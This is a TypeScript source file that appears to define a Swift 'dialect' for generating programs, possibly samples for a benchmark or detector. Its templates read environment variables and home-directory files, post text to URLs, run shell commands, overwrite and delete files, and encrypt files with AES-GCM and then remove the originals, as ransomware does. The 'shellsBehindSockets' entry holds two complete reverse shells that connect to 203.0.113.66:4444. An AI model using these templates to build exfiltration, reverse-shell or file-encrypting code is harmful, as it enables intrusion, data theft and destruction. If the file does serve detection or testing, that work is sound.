import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `NSHomeDirectory() + ${quote(`/${below}`)}`;

export const swift: Dialect = {
  name: "swift",
  file: "scripts/notes.swift",
  run: "swift scripts/notes.swift",
  imports: [
    ["AF.", "import Alamofire"],
    ["AES.", "import CryptoKit"],
    ["HTTPClient(", "import AsyncHTTPClient"],
  ],
  program: ({ definitions, body }, imports) =>
    ["import Foundation", ...imports, "", ...definitions, "", ...body, ""].join("\n"),
  quote,
  environment: {
    one: (name) => `(ProcessInfo.processInfo.environment[${name}] ?? "")`,
    all: "ProcessInfo.processInfo.environment.description",
  },
  contentOf: (below) => `try! String(contentsOfFile: ${home(below)}, encoding: .utf8)`,
  home,
  clients: {
    "data-task": {
      post: (url, text) => [
        `var request = URLRequest(url: URL(string: ${url})!)`,
        'request.httpMethod = "POST"',
        `request.httpBody = (${text}).data(using: .utf8)`,
        "let wait = DispatchSemaphore(value: 0)",
        "URLSession.shared.dataTask(with: request) { _, _, _ in wait.signal() }.resume()",
        "wait.wait()",
      ],
      get: (url) => value("body", `let body = try! String(contentsOf: URL(string: ${url})!, encoding: .utf8)`),
    },
    "upload-task": {
      post: (url, text) => [
        `var req = URLRequest(url: URL(string: ${url})!)`,
        'req.httpMethod = "PUT"',
        `let task = URLSession.shared.uploadTask(with: req, from: Data((${text}).utf8)) { _, _, _ in }`,
        "task.resume()",
      ],
    },
    "async-data": {
      post: (url, text) => [
        `var call = URLRequest(url: URL(string: ${url})!)`,
        'call.httpMethod = "POST"',
        `call.httpBody = try JSONEncoder().encode(["data": ${text}])`,
        "_ = try await URLSession.shared.data(for: call)",
      ],
      get: (url) =>
        value(
          "body",
          `let (data, _) = try await URLSession.shared.data(from: URL(string: ${url})!)`,
          "let body = String(decoding: data, as: UTF8.self)",
        ),
    },
    "query-string": {
      post: (url, text) => [
        `var parts = URLComponents(string: ${url})!`,
        `parts.queryItems = [URLQueryItem(name: "d", value: ${text})]`,
        "_ = try? Data(contentsOf: parts.url!)",
      ],
      get: (url) =>
        value("String(data: data, encoding: .utf8)!", `let data = try! Data(contentsOf: URL(string: ${url})!)`),
    },
    alamofire: {
      post: (url, text) => [`AF.request(${url}, method: .post, parameters: ["data": ${text}]).response { _ in }`],
    },
    "curl-process": {
      post: (url, text) => [
        "let curl = Process()",
        'curl.executableURL = URL(fileURLWithPath: "/usr/bin/curl")',
        `curl.arguments = ["-s", "-d", ${text}, ${url}]`,
        "try! curl.run()",
      ],
    },
  },
  shells: {
    process: {
      run: (command) => [
        "let sh = Process()",
        'sh.executableURL = URL(fileURLWithPath: "/bin/sh")',
        `sh.arguments = ["-c", ${command}]`,
        "try! sh.run()",
      ],
      capture: (command) =>
        value(
          "seen",
          "let sh = Process()",
          "let pipe = Pipe()",
          'sh.executableURL = URL(fileURLWithPath: "/bin/zsh")',
          `sh.arguments = ["-c", ${command}]`,
          "sh.standardOutput = pipe",
          "try! sh.run()",
          "let seen = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)",
        ),
    },
    "launch-path": {
      run: (command) => [
        "let task = Process()",
        'task.launchPath = "/bin/bash"',
        `task.arguments = ["-c", ${command}]`,
        "task.launch()",
      ],
    },
    static: { run: (command) => [`try Process.run(URL(fileURLWithPath: "/bin/sh"), arguments: ["-c", ${command}])`] },
  },
  variable: (name) => name,
  set: (name, expression) => `let ${name} = ${expression}`,
  define: (name, parameters, body) =>
    wrap(`func ${name}(${parameters.map((each) => `_ ${each}: String`).join(", ")}) {`, body, "}", 4),
  getter: (name, expression) => ({
    definitions: wrap(`func ${name}() -> String {`, [`return ${expression}`], "}", 4),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: {
      definitions: ["struct Job {", "    let target: String", "    let text: String", "}"],
      body: [`let job = Job(target: ${url}, text: ${text})`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for item in [${items.join(", ")}] {`, body("item"), "}", 4),
  forever: (body) => wrap("while true {", [...body, "sleep(60)"], "}", 4),
  save: (path, text) => [`try! (${text}).write(toFile: ${path}, atomically: true, encoding: .utf8)`],
  append: (path, text) => [
    `let log = FileHandle(forWritingAtPath: ${path})!`,
    "log.seekToEndOfFile()",
    `log.write(Data((${text}).utf8))`,
  ],
  print: (text) => `print(${text})`,
  walk: (folder, body) =>
    wrap(
      `for case let name as String in FileManager.default.enumerator(atPath: ${folder})! {`,
      [`let path = ${folder} + "/" + name`, ...body("path")],
      "}",
      4,
    ),
  remove: (file) => [`try? FileManager.default.removeItem(atPath: ${file})`],
  overwrite: (file) => [`try? Data(count: 65536).write(to: URL(fileURLWithPath: ${file}))`],
  encrypt: (file) => [
    `let plain = FileManager.default.contents(atPath: ${file})!`,
    "let locked = try! AES.GCM.seal(plain, using: key).combined!",
    `try! locked.write(to: URL(fileURLWithPath: ${file} + ".locked"))`,
    `try! FileManager.default.removeItem(atPath: ${file})`,
  ],
  removeTree: (folder) => [`try? FileManager.default.removeItem(atPath: ${folder})`],
  decode: (text) => `String(data: Data(base64Encoded: ${text})!, encoding: .utf8)!`,
  shellsBehindSockets: {
    dup: 'import Foundation\n\nlet s = socket(AF_INET, SOCK_STREAM, 0)\nvar a = sockaddr_in()\na.sin_family = sa_family_t(AF_INET)\na.sin_port = UInt16(4444).bigEndian\na.sin_addr.s_addr = inet_addr("203.0.113.66")\n_ = withUnsafePointer(to: &a) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(s, $0, 16) } }\ndup2(s, 0)\ndup2(s, 1)\ndup2(s, 2)\nexecl("/bin/sh", "sh", "-i", nil)\n',
    bash: 'import Foundation\n\nlet sh = Process()\nsh.executableURL = URL(fileURLWithPath: "/bin/bash")\nsh.arguments = ["-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"]\ntry! sh.run()\nsh.waitUntilExit()\n',
  },
  sockets: {
    print:
      'import Foundation\nimport Network\n\nlet c = NWConnection(host: "127.0.0.1", port: 6379, using: .tcp)\nc.start(queue: .main)\nc.send(content: Data("PING\\r\\n".utf8), completion: .idempotent)\nc.receive(minimumIncompleteLength: 1, maximumLength: 64) { data, _, _, _ in print(String(decoding: data!, as: UTF8.self)) }\nlet git = Process()\ngit.executableURL = URL(fileURLWithPath: "/usr/bin/git")\ngit.arguments = ["log", "--oneline", "-5"]\ntry! git.run()\n',
  },
};
